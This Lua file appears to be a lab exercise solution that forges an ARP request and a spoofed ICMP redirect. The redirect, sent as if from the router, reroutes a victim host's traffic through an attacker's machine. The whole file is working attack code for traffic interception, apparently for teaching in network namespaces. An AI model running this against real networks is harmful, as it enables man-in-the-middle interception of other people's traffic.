-- A solution to exercise 8 (scripts/lab/redirect.lua).
local packet, frame = require "packet", require "frame"

local M = {}

function M.redirect(attacker, victim, router_ip, dst)
  local s = packet.open(attacker.ifname, { netns = attacker })
  local function send(...)
    s:send(frame.build{ frame.ether{ src = attacker.mac, dst = victim.mac }, ... })
  end
  -- First a neighbour entry for the new gateway (exercise 7's request):
  -- without a valid one the kernel would only ARP for it.
  send(frame.arp{ op = 1, hwsrc = attacker.mac, psrc = attacker.ip, pdst = victim.ip })
  -- Then the redirect, "from" the router, quoting an echo request to dst.
  send(frame.ipv4{ src = router_ip, dst = victim.ip },
    frame.icmp4{ type = 5, code = 1, gw = attacker.ip },
    frame.ipv4{ src = victim.ip, dst = dst }, frame.icmp4{ type = 8 })
  s:close()
end

return M
